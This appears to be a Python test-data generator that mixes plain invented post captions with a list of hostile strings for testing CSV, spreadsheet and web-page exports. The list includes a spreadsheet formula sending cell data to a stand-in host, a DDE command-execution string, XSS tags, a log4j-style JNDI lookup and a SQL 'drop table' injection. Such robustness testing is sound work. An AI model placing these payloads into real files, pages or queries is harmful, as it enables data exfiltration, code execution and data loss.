"""Invented captions: most are plain, some are what breaks a reader of CSV, a spreadsheet or a page."""

from include.sandbox import names
from include.sandbox.dice import Dice

HOSTILE = (
    "",
    'she said "again", so we did it, twice',
    "first line\nsecond line\n\n#twolines",
    '=HYPERLINK("https://example.invalid/?x="&A1,"win")',
    "+1 for the soup, @SUM(A1:A9)",
    "-2 degrees and still swimming",
    "@everyone look at this kettle",
    "\tcmd|' /c calc'!A0",
    "<script>alert('caption')</script> & <b>bold</b>",
    "<img src=x onerror=alert(1)> #html",
    "\u202etxet eht snrut siht\u202c then back again",
    "القهوة في الصباح #قهوة مع ☕️ and 👩‍👩‍👧‍👦",
    "猫がまた箱に入った #猫 #ねこ #cats",
    "undefined",
    "NAN",
    "semi;colons;and\ttabs, commas,,, and 'quotes'",
    "zero\u200bwidth and e\u0301 accents #café #CAFÉ",
    '""""',
    "{{ ds }} {% raw %} ${jndi:x} %s %(name)s",
    "#" + "verylongtag" * 12,
    "'; drop table accounts; --",
)


def caption(seed: int, account: int, number: int, share_hostile: float) -> str:
    """The caption of one post; `share_hostile` of them come from the list above."""
    dice = Dice(seed, "export caption", account, number)
    if dice.chance(share_hostile):
        return dice.pick(HOSTILE)
    return names.caption(seed, account, number, 0.0)[0]
